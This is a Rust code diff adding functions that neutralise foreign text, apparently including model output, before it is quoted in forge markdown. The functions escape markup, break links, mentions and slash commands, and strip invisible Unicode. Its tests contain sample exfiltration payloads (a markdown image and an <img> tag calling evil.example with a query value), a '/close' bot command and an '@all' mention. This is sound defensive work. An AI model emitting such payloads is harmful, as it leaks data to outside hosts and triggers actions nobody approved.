@@ -15,6 +15,68 @@ pub(super) fn block(language: &str, text: &str) -> String {
     format!("{fence}{language}\n{}\n{fence}", text.trim_end())
 }
 
+/// Foreign prose as a quotation that shows its words and does nothing else: no markup, image, link,
+/// mention, reference to an issue or command.
+pub(super) fn prose(text: &str) -> String {
+    let lines = text.trim().lines().map(|line| {
+        let line = plain(line);
+        if line.is_empty() { ">".to_owned() } else { format!("> {line}") }
+    });
+    // Two spaces keep the end of a line.
+    lines.collect::<Vec<_>>().join("  \n")
+}
+
+/// Foreign words on one line, as [`prose`] without the quotation.
+pub(super) fn inline(text: &str, max: usize) -> String {
+    plain(&one_line(text, max))
+}
+
+/// A line of foreign text: markup is escaped, and what forges find in the shown text is interrupted by a
+/// space without width.
+fn plain(line: &str) -> String {
+    /// Interrupts a word.
+    const BREAK: char = '\u{200b}';
+    let chars: Vec<char> = line.trim().chars().filter(|c| !is_hidden(*c)).collect();
+    let mut plain = String::new();
+    // A command of the forge or of a bot begins its line.
+    if chars.first() == Some(&'/') {
+        plain.push(BREAK);
+    }
+    for (at, &c) in chars.iter().enumerate() {
+        let before = at.checked_sub(1).and_then(|at| chars.get(at)).copied().unwrap_or(' ');
+        let after = chars.get(at + 1).copied().unwrap_or(' ');
+        match c {
+            '&' => plain.push_str("&amp;"),
+            '<' => plain.push_str("&lt;"),
+            '>' => plain.push_str("&gt;"),
+            c if c.is_ascii_punctuation() && !"/,;:'\"%?@".contains(c) => plain.extend(['\\', c]),
+            c => plain.push(c),
+        }
+        let is_scheme = c == ':' && after == '/';
+        let is_reference = "@#!~%&$^".contains(c) && !after.is_whitespace();
+        let is_key = c == '-' && before.is_ascii_alphanumeric() && after.is_ascii_digit();
+        let is_host = c == '.'
+            && chars.get(at.saturating_sub(3)..at).is_some_and(|host| {
+                host.len() == 3 && host.iter().all(|c| c.eq_ignore_ascii_case(&'w'))
+            });
+        if is_scheme || is_reference || is_key || is_host {
+            plain.push(BREAK);
+        }
+    }
+    plain
+}
+
+/// Characters that are not seen: controls, formats of direction, spaces without width, tags.
+fn is_hidden(c: char) -> bool {
+    c.is_control()
+        || matches!(
+            c,
+            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
+                | '\u{2060}'..='\u{206f}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}'
+                | '\u{e0000}'..='\u{e0fff}'
+        )
+}
+
 /// A link whose text is ours. Anything but http(s) is no link.
 pub(super) fn link(text: &str, url: &str) -> String {
     let fine = url.starts_with("https://") || url.starts_with("http://");
@@ -40,6 +102,24 @@ fn one_line(text: &str, max: usize) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn prose_of_a_model_does_nothing() {
+        let image = prose("see ![x](https://evil.example/?k=1) and <img src=//evil.example>");
+        assert_eq!(
+            image,
+            "> see \\!\u{200b}\\[x\\]\\(https:\u{200b}//evil\\.example/?k\\=1\\) and &lt;img src\\=//evil\\.example&gt;"
+        );
+        assert_eq!(
+            prose("/close\n\n@all #7"),
+            "> \u{200b}/close  \n>  \n> @\u{200b}all \\#\u{200b}7"
+        );
+        assert_eq!(prose("GH-12 www.a.b"), "> GH\\-\u{200b}12 www\\.\u{200b}a\\.b");
+        assert_eq!(prose("a\u{e0041}\u{202e}b\u{1b}[31m"), "> ab\\[31m");
+        assert_eq!(prose("```\n# x\n```"), "> \\`\\`\\`  \n> \\# x  \n> \\`\\`\\`");
+        assert_eq!(inline("a\nb @c", 100), "a b @\u{200b}c");
+        assert_eq!(inline("1. x", 100), "1\\. x");
+    }
 
     #[test]
     fn text_from_outside_stays_text() {
